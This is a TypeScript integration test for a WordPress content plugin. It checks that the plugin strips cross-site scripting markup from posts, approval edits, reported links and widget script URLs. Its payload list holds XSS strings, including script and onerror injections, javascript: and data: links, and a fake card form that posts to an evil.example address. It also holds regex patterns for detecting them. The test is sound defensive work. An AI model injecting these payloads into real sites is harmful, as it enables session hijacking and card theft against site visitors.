import { randomUUID } from "node:crypto";
import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Approval } from "../../packages/core/src/approval";
import { Content } from "../../packages/core/src/content";
import { callSite } from "../../packages/core/src/content/site-client";
import { Credit } from "../../packages/core/src/credit";
import { Site } from "../../packages/core/src/site";
import { siteIdOf } from "../../packages/core/src/site/connection";
import { createId } from "../../packages/core/src/util/id";
import { call } from "../support/api";
import { type ConnectedWordPress, connectedWordPress, visitPage } from "../support/wordpress";

let site: ConnectedWordPress;
let token: string;

/** Markup that runs code, loads another document or styles the page. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">js link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case link</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data image">',
  '<p style="position:fixed;top:0">styled</p>',
  '<form action="https://evil.example/collect"><input name="card"><button>Pay</button></form>',
  '<p onclick="alert(1)">clicked</p><h2 onmouseover="alert(1)">hovered</h2><img src="https://green.example/a.png" alt="loaded" onload="alert(1)">',
  "<svg onload=alert(1)>",
].join("\n");

/** What none of the payloads may leave in a post, in any letter case. */
const FORBIDDEN = [/<script/i, /<iframe/i, /<svg/i, /<form/i, /<input/i, /\bon[a-z]+\s*=/i, /javascript:/i, /data:/i, /style\s*=/i, /alert\(1\)/];

/** Every element of the allow-list, as the sanitiser writes it. */
const ALLOWED = [
  "<h2>Planting</h2><h3>When</h3><h4>Where</h4>",
  '<p>Sun, <strong>water</strong> and <em>patience</em>; see <a href="https://green.example/soil/?a=1&amp;b=2">soil</a> or <a href="/compost/">compost</a>.</p>',
  "<ul><li>Basil</li><li>Mint</li></ul><ol><li>Sow</li><li>Water</li></ol>",
  "<blockquote><p>Water early.</p></blockquote>",
  '<figure><img src="https://green.example/basil.jpg" alt="Basil in a pot" /><figcaption>Basil</figcaption></figure>',
  '<table><caption>Sowing</caption><thead><tr><th scope="col">Herb</th><th>Month</th></tr></thead><tbody><tr><td colspan="2">Basil</td></tr></tbody><tfoot><tr><td>1</td><td>2</td></tr></tfoot></table>',
];

const expectClean = (html: string, label: string) => {
  for (const pattern of FORBIDDEN) expect(html, `${label}: ${pattern}`).not.toMatch(pattern);
};

/** A published post's page as visitors get it: the theme's own scripts aside, nothing of the payloads. */
async function expectCleanPage(postId: number, text: string) {
  const page = await visit(await site.wordpress.php(`echo wp_make_link_relative(get_permalink(${postId}));`));
  expect(page).toContain(text);
  for (const pattern of [/alert\(1\)/, /evil\.example/, /javascript:/i, /data:(text|image)/i]) expect(page, String(pattern)).not.toMatch(pattern);
}

/** The post as WordPress stores it. */
const stored = async (postId: number) =>
  JSON.parse(
    await site.wordpress.php(`
      $post = get_post(${postId});
      echo wp_json_encode(['status' => $post->post_status, 'title' => $post->post_title, 'excerpt' => $post->post_excerpt, 'content' => $post->post_content, 'author' => (int) $post->post_author]);
    `),
  ) as { status: string; title: string; excerpt: string; content: string; author: number };

async function insertPost(title: string, content: string, meta: Record<string, string> = {}) {
  const fields = { post_title: title, post_content: content, post_status: "publish", post_type: "post", meta_input: meta };
  return Number(
    await site.wordpress.php(`wp_set_current_user(1); echo wp_insert_post(wp_slash(json_decode(${JSON.stringify(JSON.stringify(fields))}, true)), true);`),
  );
}

/** A signed call straight to the plugin, past the API's own cleaning. */
async function toPlugin(method: "POST", route: string, payload: unknown) {
  const domain = await site.asOwner(() => Site.load(site.domain.id));
  return callSite({ siteId: siteIdOf(domain), secret: domain.siteSecret!, restUrl: domain.restUrl! }, method, route, payload);
}

const visit = (path: string) => visitPage(site.wordpress, path);

async function finished(runId: string) {
  for (const until = Date.now() + 60_000; Date.now() < until; await new Promise((resolve) => setTimeout(resolve, 50))) {
    const run = (await call("GET", `/runs/${runId}`, { token })).body.data;
    if (["succeeded", "failed", "cancelled"].includes(run?.status)) return run;
  }
  throw new Error(`run ${runId} did not finish`);
}

beforeAll(async () => {
  site = await connectedWordPress();
  token = site.owner.token;
  await Credit.grant({ userId: site.owner.userId, ledgerId: `led_sanitize_${randomUUID()}`, credits: 100 });
}, 180_000);

afterAll(async () => {
  await site?.stop();
});

describe("what reaches the owner's site", () => {
  it("an approval edit goes live without any of the payloads, its allowed markup kept, and the queue shows it as it went live", async () => {
    const runId = createId("run");
    const draft = await site.asSystem(() =>
      Content.publish(site.ref, { title: "Herbs for a sunny balcony", content: "<p>First draft.</p>", status: "draft", run_id: runId }),
    );
    const { id } = await Approval.request({
      userId: site.owner.userId,
      domainId: site.domain.id,
      kind: "blog",
      title: "Herbs for a sunny balcony",
      postId: draft.id,
      runId,
    });

    const edited = await call("PUT", `/approvals/${id}`, {
      token,
      body: {
        title: "<script>alert(1)</script>Herbs <em>for</em> a sunny balcony",
        excerpt: "<img src=x onerror=alert(1)>Sun &amp; water.",
        content: `${ALLOWED.join("\n")}\n${PAYLOADS}`,
      },
    });
    expect(edited.status, JSON.stringify(edited.body)).toBe(200);
    expect(edited.body.data.title).toBe("Herbs for a sunny balcony");
    const listed = (await call("GET", `/approvals?domainId=${site.domain.id}`, { token })).body.data.find((item: { id: string }) => item.id === id);
    expect(listed.title).toBe("Herbs for a sunny balcony");
    const preview = (await call("GET", `/approvals/${id}`, { token })).body.data;
    expectClean(preview.content, "preview");

    expect((await call("POST", `/approvals/${id}/approve`, { token })).status).toBe(200);
    const live = await stored(draft.id);
    expect(live.status).toBe("publish");
    expect(live.content).toBe(preview.content);
    expectClean(live.content, "live post");
    for (const markup of ALLOWED) expect(live.content).toContain(markup);
    expect(live.title).toBe("Herbs for a sunny balcony");
    expect(live.excerpt).toBe("Sun &amp; water.");
    await expectCleanPage(draft.id, "Water early.");
  });

  it("an optimizer rewrite and its approval go live without any of the payloads, its allowed markup kept", async () => {
    const rambling = Array.from(
      { length: 14 },
      (_, index) =>
        `People who keep herbs on a small balcony usually begin with a few pots and a bag of compost, and they soon find that light and wind matter more than room in week ${index + 1}.`,
    ).join(" ");
    const original = [`<p>${rambling}</p>`, ALLOWED.join("\n"), PAYLOADS].join("\n");
    const postId = await insertPost("What I learned this summer", original, { _yoast_wpseo_focuskw: "balcony herb garden" });
    expect((await stored(postId)).content).toContain("<script>alert(1)</script>");

    const started = await call("POST", "/blog-optimization", { token, body: { userDomainId: site.domain.id, selectedContent: [postId], provider: "yoast" } });
    expect(started.status, JSON.stringify(started.body)).toBe(201);
    const run = await finished(started.body.data[0].run_id);
    expect(run.status, run.error).toBe("succeeded");
    const listed = await call("GET", `/blog-optimization?domainId=${site.domain.id}&limit=100`, { token });
    const item = listed.body.data.data.find((entry: { id: string }) => entry.id === started.body.data[0].id);

    const draft = await stored(item.new_content_id);
    expectClean(draft.content, "draft");
    // The rewrite puts the keyphrase into a subheading and the image's alt text; the rest stays.
    for (const markup of ["<h2>Planting</h2>", "<h4>Where</h4>", ...ALLOWED.slice(1, 4), ALLOWED[5]!]) expect(draft.content).toContain(markup);
    expect(draft.content).toMatch(
      /<figure><img src="https:\/\/green\.example\/basil\.jpg" alt="[^"]*Basil in a pot" \/><figcaption>Basil<\/figcaption><\/figure>/,
    );

    expect((await call("POST", `/approvals/${item.approval_id}/approve`, { token })).status).toBe(200);
    const live = await stored(postId);
    expect(live.content).toBe(draft.content);
    expectClean(live.content, "live post");
    await expectCleanPage(postId, "Water early.");
  }, 90_000);

  it("the plugin filters a post's HTML for an administrator too, when a signed request bypasses the API", async () => {
    const sent = await toPlugin("POST", "/sitecrew/v1/posts", {
      title: "<script>alert(1)</script>Straight to the plugin",
      excerpt: "<b onclick=alert(1)>Short</b>",
      content: `<p>Kept <strong>text</strong>.</p>${PAYLOADS}`,
      status: "publish",
    });
    const { id } = sent as { id: number };
    const post = await stored(id);
    expect(await site.wordpress.php(`echo user_can(${post.author}, 'unfiltered_html') ? 'yes' : 'no';`)).toBe("yes");
    expect(post.content).toContain("<p>Kept <strong>text</strong>.</p>");
    for (const pattern of [/<script/i, /<iframe/i, /<form/i, /<input/i, /\bon[a-z]+\s*=/i, /javascript:/i, /data:/i, /style\s*=/i])
      expect(post.content).not.toMatch(pattern);
    expect(post.title).not.toMatch(/</);
    expect(post.excerpt).not.toMatch(/</);

    const updated = await toPlugin("POST", `/sitecrew/v1/posts/${id}`, { content: "<p>Again</p><script>alert(2)</script>" });
    expect(updated).toMatchObject({ id });
    expect((await stored(id)).content).not.toMatch(/<script/i);
  });

  describe("addresses a site reports", () => {
    const muPlugin = () => join(site.wordpress.dir, "site", "wp-content", "mu-plugins", "sitecrew-test-links.php");

    beforeAll(async () => {
      // A post's link as a compromised or misbehaving site might report it.
      await writeFile(
        muPlugin(),
        "<?php\nadd_filter('post_link', function ($url, $post) {\n\t$link = get_post_meta($post->ID, '_sitecrew_test_link', true);\n\treturn is_string($link) && '' !== $link ? $link : $url;\n}, 10, 2);\n",
      );
    });

    afterAll(async () => {
      await rm(muPlugin(), { force: true });
    });

    it("are taken only as http(s): a javascript: link is dropped", async () => {
      const bad = await insertPost("A post with a strange link", "<p>Hello.</p>", { _sitecrew_test_link: "javascript:alert(document.domain)//" });
      const good = await insertPost("A post with its own link", "<p>Hello.</p>");
      expect(await site.wordpress.php(`echo get_permalink(${bad});`)).toBe("javascript:alert(document.domain)//");

      const post = await site.asSystem(() => Content.post(site.ref, bad));
      expect(post.url).toBe("");
      expect((await site.asSystem(() => Content.post(site.ref, good))).url).toMatch(/^http:\/\/.+\/a-post-with-its-own-link\/$/);
      // An update also clears the lists cached for the domain, so the next one is read fresh.
      const updated = await site.asSystem(() => Content.update(site.ref, bad, { title: "A post with a strange link, renamed" }));
      expect(updated.url).toBe("");
      const items = await site.asSystem(() => Content.items(site.ref));
      expect(items.find((item) => item.id === bad)?.url).toBe("");
      expect(items.find((item) => item.id === good)?.url).toMatch(/^http:\/\//);
      const knowledge = await site.asSystem(() => Content.knowledge(site.ref, 1));
      expect(knowledge.items.find((item) => item.id === bad)?.url).toBe("");
    });
  });

  describe("the chat widget's script", () => {
    let api: URL;
    const setWidget = (scriptUrl: string) => site.asSystem(() => Content.setChatWidget(site.ref, { widget_key: createId("widget"), script_url: scriptUrl }));
    const widgetTags = async () => (await visit("/")).match(/<script[^>]*data-sitecrew-chat[^>]*>/g) ?? [];

    beforeAll(async () => {
      api = new URL(await site.wordpress.php("echo SITECREW_API_URL;"));
    });

    it("is taken only from the scheme, host and port of the plugin's SiteCrew API", async () => {
      expect(await setWidget(`${api.origin}/widget.js`)).toMatchObject({ widget_key: expect.stringMatching(/^wgt_/) });
      expect(await setWidget(`http://${api.hostname.toUpperCase()}:${api.port}/widget.js`)).toMatchObject({ widget_key: expect.stringMatching(/^wgt_/) });
      const kept = (await widgetTags())[0];
      expect(kept).toBeDefined();

      const otherPort = String(Number(api.port) + 1);
      for (const scriptUrl of [
        `http://${api.hostname}:${otherPort}/widget.js`,
        `https://${api.hostname}:${api.port}/widget.js`,
        `http://${api.hostname}/widget.js`,
        `https://${api.hostname}/widget.js`,
      ]) {
        await expect(setWidget(scriptUrl), scriptUrl).rejects.toMatchObject({ code: "site_rejected" });
      }
      expect(await widgetTags()).toEqual([kept]);
    });

    it("stored from another port, is not shown", async () => {
      const elsewhere = { widget_key: createId("widget"), script_url: `http://${api.hostname}:${Number(api.port) + 1}/widget.js` };
      await site.wordpress.php(`update_option('sitecrew_chat_widget', json_decode(${JSON.stringify(JSON.stringify(elsewhere))}, true), true);`);
      expect(await widgetTags()).toEqual([]);
    });
  });
});
